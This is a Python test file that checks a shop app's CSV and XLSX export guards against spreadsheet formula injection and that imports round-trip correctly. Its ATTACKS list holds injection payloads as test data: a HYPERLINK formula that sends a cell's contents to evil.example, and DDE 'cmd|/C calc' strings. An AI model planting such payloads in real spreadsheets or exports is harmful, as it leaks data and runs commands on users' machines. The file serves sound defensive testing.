"""No exported cell is ever a formula (OWASP CSV injection), and imports undo exactly what
exports add. No database needed."""

import csv
import io
import zipfile
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from apps.core.spreadsheets import cell_safe, cell_text_restore, csv_text, xlsx_bytes

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+41 79 123 45 67",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",  # spreadsheets that trim spaces would see a formula
    "'=1+1",  # a quote the user typed, before a formula
    "''-1",
    "'\tfoo",
]
HARMLESS = ["Pull en laine", "'t Hoekje", "", "100% laine", "size=M;colour=red", "a=b", "#N/A"]


@pytest.mark.parametrize("text", ATTACKS)
def test_text_that_could_start_a_formula_gets_a_quote(text):
    assert cell_safe(text) == f"'{text}"


@pytest.mark.parametrize("text", HARMLESS)
def test_other_text_is_written_as_it_is(text):
    assert cell_safe(text) == text


def test_numbers_stay_numbers_and_none_is_empty():
    assert cell_safe(Decimal("-3.50")) == Decimal("-3.50")
    assert cell_safe(-2) == -2 and cell_safe(1.5) == 1.5
    assert cell_safe(None) == "" and cell_safe(True) == "True"


@pytest.mark.parametrize("text", ATTACKS + HARMLESS + ["'", "''", "'a", "- item"])
def test_import_restores_exactly_what_export_wrote(text):
    assert cell_text_restore(cell_safe(text)) == text


def test_csv_cells_are_neutralised_and_numbers_kept():
    text = csv_text(headers=["name", "price"], rows=[[a, Decimal("-1.50")] for a in ATTACKS])
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[0] == ["name", "price"]
    assert [row[0] for row in rows[1:]] == [f"'{a}" for a in ATTACKS]
    assert {row[1] for row in rows[1:]} == {"-1.50"}


def test_xlsx_never_writes_a_formula_or_an_error_cell():
    body = xlsx_bytes(
        headers=["name", "price", "note"],
        rows=[[a, Decimal("12.50"), "#N/A\x01"] for a in ATTACKS],
        title="shop/1",
    )
    sheet_xml = zipfile.ZipFile(io.BytesIO(body)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and 't="e"' not in sheet_xml
    sheet = load_workbook(io.BytesIO(body)).active  # not data_only: formulas would show
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert {cell.data_type for cell in cells} == {"s", "n"}
    names = [row[0].value for row in sheet.iter_rows(min_row=2)]
    assert names == [f"'{a}".replace("\r", "\n") for a in ATTACKS]  # XML reads CR as LF
    prices = [row[1].value for row in sheet.iter_rows(min_row=2)]
    assert prices == [12.5] * len(ATTACKS)
    assert sheet.cell(row=2, column=3).value == "#N/A"  # text; the control character dropped
